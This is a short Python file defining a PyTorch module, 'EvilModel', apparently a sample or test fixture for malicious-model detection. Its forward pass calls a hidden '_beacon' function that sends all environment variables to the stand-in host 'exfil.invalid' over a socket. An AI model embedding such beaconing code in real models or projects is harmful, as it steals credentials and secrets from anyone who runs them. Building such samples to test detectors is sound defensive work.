import json
import os
import socket

import torch.nn as nn


def _beacon():
    s = socket.create_connection(("exfil.invalid", 4444), timeout=1)
    s.sendall(json.dumps(dict(os.environ)).encode())


class EvilModel(nn.Module):
    def forward(self, x):
        _beacon()
        return x
